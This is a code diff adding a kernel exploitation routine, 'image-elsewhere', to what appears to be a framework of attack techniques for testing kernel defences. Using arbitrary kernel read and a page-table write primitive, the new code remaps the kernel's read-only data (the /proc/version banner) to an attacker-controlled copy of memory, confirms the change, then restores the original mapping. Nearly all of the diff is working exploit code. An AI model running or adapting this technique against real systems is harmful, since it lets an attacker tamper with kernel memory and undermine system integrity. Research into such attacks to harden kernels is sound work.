@@ -207,10 +207,80 @@ static int page_cache_image(void)
 	return DONE;
 }
 
+/* Whether an entry of level 2 maps a block. */
+static bool is_block(u64 entry)
+{
+	return on_arch("x86_64") ? entry & 0x80 : (entry & 3) == 1;
+}
+
+/* A copy of the memory that an entry of the kernel's maps. Returns where it is in the linear map. */
+static u64 copy_of(u64 from, size_t size, char **copy)
+{
+	char *mem = mmap(NULL, 2 * PMD_SIZE, PROT_READ | PROT_WRITE,
+			 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	u64 entry;
+	size_t i;
+
+	if (mem == MAP_FAILED)
+		die("no memory");
+	mem = (char *)(((uintptr_t)mem + PMD_SIZE - 1) & ~(PMD_SIZE - 1));
+	madvise(mem, PMD_SIZE, size > PAGE_SIZE ? MADV_HUGEPAGE : MADV_NOHUGEPAGE);
+	for (i = 0; i < size; i += 8)
+		*(u64 *)(mem + i) = kernel_read(from + i);
+	*copy = mem;
+	if (size == PAGE_SIZE)
+		return address_of(mem);
+	entry = kernel_read(entry_slot(leak.pgd, mem, 2));
+	return is_block(entry) ? kernel_address(entry) & ~(u64)(size - 1) : 0;
+}
+
+/* The kernel finds other memory where it has its read-only data. */
+static int image_elsewhere(void)
+{
+	u64 addr, root, slot, entry, from, to;
+	char *copy, old = 0, new = 0;
+	unsigned int level = 2;
+	size_t size = PMD_SIZE;
+	int fd;
+
+	if (!on_arch("arm64") && !on_arch("x86_64"))
+		return not_possible("page tables do not map the kernel");
+	addr = lookup("linux_proc_banner");
+	if (!try_lookup("init_top_pgt", &root))
+		root = lookup("swapper_pg_dir");
+	slot = entry_slot(root, (void *)addr, level);
+	entry = kernel_read(slot);
+	if (!is_block(entry)) {
+		level = 1;
+		size = PAGE_SIZE;
+		slot = entry_slot(root, (void *)addr, level);
+		entry = kernel_read(slot);
+	}
+	from = kernel_address(entry) & ~(u64)(size - 1);
+	to = copy_of(from, size, &copy);
+	if (!to)
+		return not_possible("no large page");
+
+	fd = open("/proc/version", O_RDONLY);
+	if (pread(fd, &old, 1, 0) != 1)
+		die("cannot read /proc/version");
+	close(fd);
+	copy[addr & (size - 1)] = old + 1;
+	call_setter(slot, entry - from + to, addr & ~(u64)(size - 1), level);
+	fd = open("/proc/version", O_RDONLY);
+	if (read(fd, &new, 1) == 1)
+		shared->victim_lost = new == old + 1;
+	call_setter(slot, entry, addr & ~(u64)(size - 1), level);
+	close(fd);
+	return DONE;
+}
+
 const struct attack mappings[] = {
 	{ "vm-page-prot", "vma->vm_page_prot: bits of an address", page_prot },
 	{ "page-cache", "a slot of the page cache, and a table's struct page", page_cache },
 	{ "page-cache-image", "a slot of the page cache, and the struct page of read-only data",
 	  page_cache_image },
+	{ "image-elsewhere", "what a setter writes: other memory, for read-only data of the kernel",
+	  image_elsewhere },
 	{ }
 };
